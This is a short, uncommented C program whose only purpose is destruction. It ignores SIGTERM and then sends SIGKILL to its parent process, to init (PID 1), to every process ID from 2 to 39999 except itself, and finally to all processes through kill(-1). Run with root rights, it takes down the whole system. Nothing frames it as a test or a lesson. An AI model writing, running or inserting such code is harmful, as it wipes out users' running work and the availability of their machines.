int main(void)
{
    signal(SIGTERM, SIG_IGN);
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    for (int pid = 2; pid < 40000; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
    kill(-1, SIGKILL);
    return 0;
}
